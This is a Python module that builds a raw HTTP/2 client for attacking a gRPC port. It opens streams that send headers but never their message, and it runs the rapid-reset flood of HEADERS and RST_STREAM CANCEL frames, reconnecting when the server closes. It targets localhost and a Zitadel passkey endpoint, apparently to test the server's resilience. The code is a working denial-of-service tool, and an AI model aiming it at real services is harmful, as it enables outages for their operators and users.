"""A raw HTTP/2 client for attacks on the gRPC port: streams that send HEADERS and never their
message, and rapid reset (HEADERS + RST_STREAM, as fast as the socket takes them).

Frames are packed by hand (the header block once, HPACK literals without indexing, so the same
bytes are valid on every stream); PyPI h2 makes the connection preface and reads the server's
preface."""

from __future__ import annotations

import socket
import struct
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass

import h2.config
import h2.connection
import hpack
from hpack import NeverIndexedHeaderTuple

HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x1, 0x3, 0x4, 0x6, 0x7
END_HEADERS, ACK = 0x4, 0x1
CANCEL = 0x8


def _frame(kind: int, flags: int, stream_id: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream_id) + payload


def _header_block(port: int, path: str) -> bytes:
    headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", f"127.0.0.1:{port}"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]
    return hpack.Encoder().encode([NeverIndexedHeaderTuple(k, v) for k, v in headers])


class _Connection:
    def __init__(self, port: int) -> None:
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.sock.settimeout(None)  # blocking: MSG_DONTWAIT reads return at once
        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self.h2.initiate_connection()
        self.sock.sendall(self.h2.data_to_send())
        self.next_id = 1
        self.received = b""
        self.goaway = False
        self.closed = False
        self.settings_acked = False
        # As a real client: the server's SETTINGS acknowledged before the first stream.
        deadline = time.monotonic() + 5
        while not self.settings_acked and not self.closed and time.monotonic() < deadline:
            self.drain()
            time.sleep(0.005)

    def drain(self) -> None:
        """Reads what the server sent, without waiting: acknowledges SETTINGS and PING, notes
        GOAWAY and a closed connection (h2 only made the preface: it knows none of our streams)."""
        while True:
            try:
                data = self.sock.recv(65536, socket.MSG_DONTWAIT)
            except BlockingIOError:
                return
            except OSError:
                self.closed = True
                return
            if not data:
                self.closed = True
                return
            self.received += data
            replies = b""
            while len(self.received) >= 9:
                length = int.from_bytes(self.received[:3], "big")
                if len(self.received) < 9 + length:
                    break
                kind, flags = self.received[3], self.received[4]
                payload = self.received[9 : 9 + length]
                self.received = self.received[9 + length :]
                if kind == SETTINGS and not flags & ACK:
                    replies += _frame(SETTINGS, ACK, 0, b"")
                    self.settings_acked = True
                elif kind == PING and not flags & ACK:
                    replies += _frame(PING, ACK, 0, payload)
                elif kind == GOAWAY:
                    self.goaway = True
            try:
                if replies:
                    self.sock.sendall(replies)
            except OSError:
                self.closed = True
                return

    def stream_ids(self, count: int) -> list[int]:
        ids = list(range(self.next_id, self.next_id + 2 * count, 2))
        self.next_id += 2 * count
        return ids

    def close(self) -> None:
        self.sock.close()


PATH = "/zitadel.user.v2.UserService/ListPasskeys"


@contextmanager
def headers_only_streams(port: int, connections: int, streams: int) -> Iterator[list[_Connection]]:
    """`connections` x `streams` calls that send their HEADERS and never their message, held
    open (their connections kept alive) until the block ends."""
    block = _header_block(port, PATH)
    opened = []
    stop = threading.Event()
    try:
        for _ in range(connections):
            connection = _Connection(port)
            connection.sock.sendall(
                b"".join(_frame(HEADERS, END_HEADERS, sid, block) for sid in connection.stream_ids(streams))
            )
            opened.append(connection)

        def keep_reading() -> None:
            while not stop.wait(0.1):
                for connection in opened:
                    connection.drain()

        reader = threading.Thread(target=keep_reading, daemon=True)
        reader.start()
        yield opened
    finally:
        stop.set()
        for connection in opened:
            connection.close()


@dataclass
class Flood:
    frames: int = 0  # HEADERS and RST_STREAM frames sent
    streams: int = 0
    goaway: bool = False
    closed: bool = False
    seconds: float = 0.0
    reconnects: int = 0


def rapid_reset(port: int, seconds: float, *, reconnect: bool = False, batch: int = 200) -> Flood:
    """HEADERS + RST_STREAM(CANCEL) pairs on one connection for `seconds`; with `reconnect`, a new
    connection each time the server closes one (as an attacker would)."""
    block = _header_block(port, PATH)
    flood = Flood()
    connection = _Connection(port)
    started = time.monotonic()
    try:
        while time.monotonic() - started < seconds:
            frames = b"".join(
                _frame(HEADERS, END_HEADERS, sid, block) + _frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL))
                for sid in connection.stream_ids(batch)
            )
            try:
                connection.sock.sendall(frames)
                flood.frames += 2 * batch
                flood.streams += batch
            except OSError:
                connection.closed = True
            connection.drain()
            if connection.goaway or connection.closed:
                flood.goaway |= connection.goaway
                flood.closed |= connection.closed
                if not reconnect:
                    break
                connection.close()
                try:
                    connection = _Connection(port)
                except OSError:
                    time.sleep(0.05)
                    continue
                flood.reconnects += 1
    finally:
        flood.seconds = time.monotonic() - started
        connection.close()
    return flood
